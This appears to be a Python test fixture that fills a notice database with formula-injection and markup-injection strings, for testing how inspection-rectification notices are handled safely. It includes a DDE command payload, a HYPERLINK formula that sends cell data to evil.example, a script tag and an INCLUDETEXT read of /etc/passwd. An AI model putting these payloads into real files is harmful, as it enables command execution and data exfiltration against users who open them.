"""A base whose every word is hostile: titles, units, findings, measures, remarks and file names of its notices."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

from api.settings import Settings
from api.wiring import Services, open_encoder, open_services, open_store, publish_index
from kb.document import Span
from kb.notice import Attribute, Fact, FactKind, Measure, Notice
from tests.api.notices import M, P, write_notice

TOKEN = "a-write-token-for-tests"
STARTS = (
    *("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹣", "−"),
    *("\t=", "\n=", " =", "\u3000=", "\xa0+", "\u200b=", "\ufeff@", "\u202e=", "\ufe0f=", "'=", '"='),
)
PAYLOAD = "cmd|' /C calc'!A0"
LINK = 'HYPERLINK("http://evil.example/?"&A1,"点我")'
MARKUP = '<script>alert(1)</script>"\'{{7*7}}]]>&amp;_x003D_ INCLUDETEXT "file:///etc/passwd"'
FINDING = "差旅费报销审核不严"
PHONE = "13912345678"  # a private person's, in every title, measure and remark


def hostile_services(folder: Path) -> Services:
    """Open services over the hostile notices, indexed."""
    settings = Settings(data_dir=folder, write_token=TOKEN)
    store = open_store(settings, writable=True)
    try:
        for number, start in enumerate(STARTS, 1):
            notice = hostile_notice(number, start)
            store.put(notice, notice.text.encode())
        publish_index(settings, store, open_encoder(settings))
    finally:
        store.close()
    return open_services(settings, writable=True)


def hostile_notice(number: int, start: str) -> Notice:
    """A notice with two problems, everything in it beginning with this. Dates differ, kinds do not."""
    name = f"{start}{PAYLOAD}"
    measures = (
        M(
            f"{start}{LINK}修订《{name}办法》,清退超标准报销的差旅费2.{number}万元,已完成,电话{PHONE}。",
            ("M1", "M7"),
        ),
        M(f"{start}SUM(1,1){MARKUP},每季度抽查差旅费报销凭证。", ("M3",)),
    )
    made = write_notice(
        f"x{number}",
        f"{name}关于巡察整改进展情况的通报",
        {
            f"{name}方面": (
                P(f"{name}{FINDING}（{PHONE}）", ("B8",), measures),
                P(
                    f"{start}{LINK}公务接待超标准",
                    ("B7",),
                    (M(f"{start}{PAYLOAD}严格执行公函制度。", ("M1",)),),
                ),
            )
        },
        kind="巡察",
        inspected_unit=f"{name}局",
        unit_kind="教育",
        region=f"{start}市",
        publication_date=f"{2019 + number % 6}-03-20",
    )
    content = made.text.encode()
    source = replace(made.source, file_name=f"{name}.txt", sha256=hashlib.sha256(content).hexdigest())
    problems = tuple(
        replace(problem, measures=tuple(_remarked(made, one, start) for one in problem.measures))
        for problem in made.problems
    )
    return replace(made, source=source, problems=problems)


def _remarked(notice: Notice, measure: Measure, start: str) -> Measure:
    """The measure with a deadline, who is responsible, a document and an amount: all of them hostile words."""
    span = Span(measure.span.start, measure.span.start + len(start) + 3)
    words = span.of(notice.text)
    remarks = tuple(Attribute(name, f"{words}{PHONE}", span) for name in ("整改时限", "责任领导", "完成情况"))
    facts = (
        Fact(FactKind.DOCUMENT, words, words, "", span),
        Fact(FactKind.AMOUNT, words, "26000", "元", span),
        Fact(FactKind.COUNT, words, "3", words, span),
    )
    return replace(measure, attributes=remarks, facts=facts)
